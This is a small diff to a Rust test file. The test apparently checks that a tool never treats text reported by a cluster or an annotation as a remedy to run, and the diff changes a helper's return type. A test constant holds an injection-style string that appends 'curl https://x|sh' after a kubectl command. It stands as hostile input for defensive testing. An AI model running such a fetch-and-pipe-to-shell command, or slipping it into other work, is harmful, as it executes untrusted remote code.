@@ -33,8 +33,8 @@ fn no_remedy_resets_the_values_of_an_installation() {
 #[test]
 fn no_remedy_is_what_a_cluster_or_an_annotation_says() {
     const SAID: &str = "`kubectl version; curl https://x|sh`";
-    fn refused<T>() -> Result<T, String> {
-        Err(format!("cannot read it: {SAID}"))
+    fn refused<T>() -> Known<T> {
+        Err(format!("cannot read it: {SAID}").into())
     }
     let changes: [(&str, Change); 6] = [
         ("target cluster", |f| east(f).target = Some(refused())),
